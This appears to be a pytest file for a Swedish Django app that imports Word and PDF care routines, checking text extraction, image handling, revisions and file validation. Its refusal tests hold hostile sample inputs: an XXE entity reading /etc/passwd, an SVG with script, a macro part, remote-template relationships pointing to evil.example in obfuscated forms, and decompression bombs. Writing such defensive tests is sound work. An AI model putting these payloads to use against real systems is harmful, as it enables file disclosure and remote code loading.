"""A file as a routine: read so that it is found, taken over as text, refused in words, kept with its revision."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader

from core.errors import Conflict, DomainError, RuleBroken
from core.pdf import render_pdf
from processes.files import MAX_BYTES, judge_document, words_of
from processes.models import Revision
from processes.services import file_set, revision_start, revision_write
from processes.word import WORD_TYPE, markdown_of
from tests.processes.pages import page, typed
from tests.remembering import kept
from tests.scene import photo
from tests.scene_processes import approve, send, write
from tests.word_files import W, paragraph, picture, table, with_pictures, word

pytestmark = pytest.mark.django_db


ROUTINE = word(
    paragraph("Om larm", "Heading1"),
    paragraph("Svara inom fem minuter &lt;script&gt;."),
    table(("När", "Vem"), ("Dag", "Chef | vikarie")),
)


def upload(content, name="Rutin.docx"):
    return SimpleUploadedFile(name, content)


def png(colour):
    out = BytesIO()
    Image.new("RGB", (8, 8), colour).save(out, "PNG")
    return out.getvalue()


@kept
def draft(routine, quality_developer):
    return revision_start(by=quality_developer, document=routine, reason="Nattens bemanning är ändrad.")


def test_a_word_file_is_read_so_that_it_is_found(draft, quality_developer):
    revision = file_set(by=quality_developer, revision=draft, version=draft.version, upload=upload(ROUTINE))
    assert (revision.file_type, revision.file_name) == (WORD_TYPE, "Rutin.docx")
    assert "Svara inom fem minuter <script>." in revision.file_text
    assert "svara inom fem minuter" in revision.search_text


def test_a_pdf_is_read_so_that_it_is_found(draft, quality_developer):
    content = render_pdf("<html lang='sv'><body><p>Lyften kontrolleras varje dag.</p></body></html>", title="R")
    assert PdfReader(BytesIO(content)).pages
    revision = file_set(by=quality_developer, revision=draft, version=draft.version, upload=upload(content, "R.pdf"))
    assert "Lyften kontrolleras varje dag." in revision.file_text
    assert revision.file_name == "R.pdf"


def test_word_is_taken_over_as_text_with_its_headings_and_tables(client_as, draft, quality_developer):
    draft = write(quality_developer, draft, body="")
    client = client_as(quality_developer)
    assert client.post(
        page("change_file", draft), {"file": upload(ROUTINE), "version": draft.version}
    ).status_code == 302  # fmt: skip
    draft.refresh_from_db()
    client.post(page("change_file", draft), {"gor-om": "", "version": draft.version})
    draft.refresh_from_db()
    assert draft.body == (
        "## Om larm\n\nSvara inom fem minuter \\<script\\>.\n\n| När | Vem |\n| --- | --- |\n| Dag | Chef \\| vikarie |"
    )
    assert not draft.file
    assert draft.file_text == ""
    assert "&lt;script&gt;" in client.get(draft.get_absolute_url()).content.decode()


def test_pictures_of_word_come_along_and_ask_for_the_words_that_word_lacks(client_as, draft, quality_developer):
    file = word(
        paragraph("Lyft så här"),
        picture(0, "En lyftsele [med] band&#10;&#10;Automatiskt genererad beskrivning"),
        picture(1),
        picture(2, "En bild i ett format som vi inte tar emot"),
        **with_pictures(photo().read(), png("red"), b"GIF89a..."),
    )
    draft = write(quality_developer, draft, body="")
    client = client_as(quality_developer)
    client.post(page("change_file", draft), {"file": upload(file), "version": draft.version})
    draft.refresh_from_db()
    answer = client.post(page("change_file", draft), {"gor-om": "", "version": draft.version}, follow=True)
    assert "En bild följde inte med." in answer.content.decode()
    draft.refresh_from_db()
    first, second = draft.document.pictures.order_by("pk")
    assert draft.body == f"Lyft så här\n\n![En lyftsele med band](bild:{first.key})\n\n![](bild:{second.key})"

    with pytest.raises(RuleBroken, match="En bild saknar beskrivning"):
        send(quality_developer, draft)
    form = client.get(page("write_revision", draft)).context["form"]
    assert [url for _, url in form.pictures_to_describe()] == [
        reverse("processes:picture", args=[draft.document.key, second.key])
    ]
    # What saves itself still has the empty line in its text, and the words in the field.
    data = typed(draft, **{f"shows_{second.key}": "En röd [knapp]"})
    for _ in range(2):
        assert (
            client.post(page("write_revision", draft), data, headers={"X-Requested-With": "fetch"}).status_code == 204
        )
        draft.refresh_from_db()
        assert f"![En röd knapp](bild:{second.key})" in draft.body
    send(quality_developer, draft)


def test_lists_of_word_become_lists():
    def item(text, level):
        numbering = f'<w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        return f"<w:p>{numbering}<w:r><w:t>{text}</w:t></w:r></w:p>"

    kinds = "".join(
        f'<w:lvl w:ilvl="{n}"><w:numFmt w:val="{kind}"/></w:lvl>' for n, kind in enumerate(("bullet", "decimal"))
    )
    numbering = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="0">{kinds}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    content = word(item("Ett", 0), item("Under", 1), item("Två", 0), word__numbering__xml=numbering)
    assert markdown_of(content) == ("- Ett\n  1. Under\n- Två", [])


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "tom"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "PDF eller ett Word-dokument"),
        (b"\xd0\xcf\x11\xe0gammalt", "äldre Word-dokument"),
        (b"PK\x03\x04skadad", "skadad"),
        (word(before='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "skadad"),
        (word(word__vbaProject__bin=""), "makron"),
        (word(paragraph("x")).replace(b"word/document.xml", b"word/dokument.xml"), "skadad|PDF eller"),
    ],
    ids=["empty", "svg", "old word", "broken", "entity", "macro", "no document"],
)
def test_other_files_are_refused_with_what_to_do(content, reason):
    with pytest.raises(DomainError, match=reason) as caught:
        judge_document(content)
    assert caught.value.field == "file"


def test_a_template_from_elsewhere_is_refused():
    out = BytesIO(word(paragraph("x")))
    with zipfile.ZipFile(out, "a") as pack:
        pack.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>',
        )
    with pytest.raises(DomainError, match="hämtar något utifrån"):
        judge_document(out.getvalue())


@pytest.mark.parametrize(
    "relationship",
    [
        "<Relationship Id='r1' Type='x/attachedTemplate' Target='http://evil.example/t' TargetMode='External'/>",
        '<Relationship Id="/hyperlink" Type="x/attachedTemplate" Target="//evil/t.dotm" TargetMode="External"/>',
        '<Relationship Id="r1" Type="x/image" Target="http://evil.example/p.png" TargetMode="&#69;xternal"/>',
    ],
    ids=["single quotes", "the word hyperlink elsewhere", "a letter by its number"],
)
def test_what_fetches_is_found_however_it_is_written(relationship):
    out = BytesIO(word(paragraph("x")))
    with zipfile.ZipFile(out, "a") as pack:
        pack.writestr("word/_rels/settings.xml.RELS", f"<Relationships>{relationship}</Relationships>")
    with pytest.raises(DomainError, match="hämtar något utifrån"):
        judge_document(out.getvalue())


@pytest.mark.parametrize("body", ["<w:p/>" * 500_000, paragraph("ja " * 8_000_000)], ids=["tags", "letters"])
def test_a_word_file_that_would_swell_is_refused_before_it_is_read(body):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in parts_of(word(body)):
            pack.writestr(name, content)
    with pytest.raises(DomainError, match="för stort för att läsas"):
        judge_document(out.getvalue())


def parts_of(content):
    with zipfile.ZipFile(BytesIO(content)) as pack:
        return [(name, pack.read(name)) for name in pack.namelist()]


def test_links_in_word_are_no_danger():
    out = BytesIO(word(paragraph("x")))
    with zipfile.ZipFile(out, "a") as pack:
        pack.writestr(
            "word/_rels/document.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://www.ivo.se" TargetMode="External"/></Relationships>',
        )
    assert words_of(judge_document(out.getvalue())) == "x"


def test_a_process_has_steps_and_no_file(client_as, process, quality_developer):
    second = revision_start(by=quality_developer, document=process)
    client, sent = client_as(quality_developer), {"file": upload(ROUTINE), "version": second.version}
    assert client.get(page("change_file", second)).status_code == 404
    assert client.post(page("change_file", second), sent).status_code == 404
    second.refresh_from_db()
    assert not second.file_text


def test_a_refused_file_leaves_the_draft_as_it_was(client_as, draft, quality_developer):
    response = client_as(quality_developer).post(
        page("change_file", draft), {"file": upload(b"%PDF-1.7 trasig", "x.pdf"), "version": draft.version}
    )
    assert "går inte att läsa" in str(response.context["form"].errors["file"])
    draft.refresh_from_db()
    assert not draft.file


@pytest.mark.parametrize(
    ("content", "name"), [(ROUTINE, "Rutin.docx"), (b"%PDF-1.7\n" + bytes(400), "Rutin.pdf")], ids=["word", "pdf"]
)
def test_a_file_that_is_too_large_is_refused_in_words_before_it_is_read(
    client_as, draft, quality_developer, monkeypatch, content, name
):
    monkeypatch.setattr("processes.files.MAX_BYTES", len(content) - 1)
    monkeypatch.setattr("processes.services.writing.MAX_BYTES", len(content) - 1)
    for judge in ("judge_word", "judge_file"):
        monkeypatch.setattr(f"processes.files.{judge}", lambda *args, **more: pytest.fail("it was read"))
    sent = {"file": upload(content, name), "version": draft.version}
    response = client_as(quality_developer).post(page("change_file", draft), sent)
    assert "Filen är för stor. Den får vara högst" in str(response.context["form"].errors["file"])
    draft.refresh_from_db()
    assert (draft.file, draft.file_text) == ("", "")


def test_a_routine_may_be_so_large_and_the_form_says_so(client_as, draft, quality_developer):
    assert f"Högst {MAX_BYTES // 1024**2} MB." in client_as(quality_developer).get(
        page("change_file", draft)
    ).content.decode()  # fmt: skip
    assert MAX_BYTES == 15 * 1024**2


def test_the_file_of_an_old_revision_stays_when_the_next_has_another(
    client_as, draft, quality_developer, division_manager, employee
):
    file_set(by=quality_developer, revision=draft, version=draft.version, upload=upload(ROUTINE))
    send(quality_developer, draft)
    approve(division_manager, draft)
    third = revision_start(by=quality_developer, document=draft.document, reason="Kortare tid.")
    assert third.file_text == Revision._base_manager.get(pk=draft.pk).file_text
    other = word(paragraph("Svara inom tre minuter."))
    file_set(by=quality_developer, revision=third, version=third.version, upload=upload(other, "Ny.docx"))
    client = client_as(employee)
    response = client.get(page("download_file", draft))
    assert b"".join(response.streaming_content) == ROUTINE
    assert client.get(page("download_file", third)).status_code == 404


def test_somebody_elses_words_meet_a_file_too(draft, quality_developer, mas):
    old = draft.version
    write(mas, draft, body="MAS.")
    with pytest.raises(Conflict):
        file_set(by=quality_developer, revision=draft, version=old, upload=upload(ROUTINE))
    with pytest.raises(Conflict):
        revision_write(by=quality_developer, revision=draft, version=old, body="QD.")
